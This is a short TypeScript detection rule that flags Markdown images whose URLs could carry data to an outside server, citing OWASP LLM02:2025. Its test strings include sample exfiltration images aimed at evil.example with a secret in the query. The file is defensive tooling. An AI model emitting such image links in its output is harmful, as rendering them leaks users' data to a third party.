/** Markdown images and links that would carry data to somebody's server when they are shown. Source: OWASP LLM02:2025. */
import { pattern, type Rule } from '../rule.ts'

export const exfiltration: Rule = {
  id: 'exfiltration',
  keywords: ['](http'],
  find: pattern(/!\[[^\]\n]{0,100}\]\(https?:\/\/[^\s)]{1,800}\)/g, carriesData),
  finds: ['![x](https://evil.example/p?d=SECRET)', '![](http://evil.example/{data})'],
  ignores: ['![logo](https://example.com/logo.png)', '[docs](https://example.com/?q=pods)', '!(x)'],
}

/** Whether the address has room for data: a parameter with a value, or a gap to fill in. */
function carriesData(image: string): boolean {
  return /[?&#;][^=]{1,100}=[^)]|\{/.test(image)
}
